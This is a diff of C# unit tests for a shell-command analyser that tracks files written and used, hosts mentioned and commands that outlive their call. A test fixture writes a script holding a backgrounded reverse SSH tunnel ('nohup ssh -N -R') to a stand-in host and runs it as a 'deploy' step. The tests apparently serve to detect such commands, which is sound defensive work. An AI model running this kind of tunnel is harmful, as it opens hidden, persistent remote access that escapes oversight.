@@ -61,13 +61,13 @@ public sealed class CommandReadingTests
         Assert.AreEqual(expected, CommandReading.Of(command).OutlivesCall);
 
     [TestMethod]
-    public void UsesFileOf_ScriptWrittenBefore_IsFollowed()
+    public void UsedFiles_ScriptWrittenBefore_HoldIt()
     {
         var writer = CommandReading.Of("cat > deploy.sh <<'X'\nH=203.0.113.66\nnohup ssh -N -R 1:a:22 u@203.0.113.66 &\nX\nchmod +x deploy.sh");
         var runner = CommandReading.Of("./deploy.sh; sleep 1; echo deployed");
-        Assert.IsTrue(runner.UsesFileOf(writer));
+        Assert.IsTrue(writer.WrittenFiles.Overlaps(runner.UsedFiles));
         Assert.AreNotEqual(MentionKind.None, writer.WritesDown(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
         Assert.AreEqual(MentionKind.None, writer.Names(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
-        Assert.IsFalse(CommandReading.Of("ls").UsesFileOf(writer));
+        Assert.IsFalse(writer.WrittenFiles.Overlaps(CommandReading.Of("ls").UsedFiles));
     }
 }
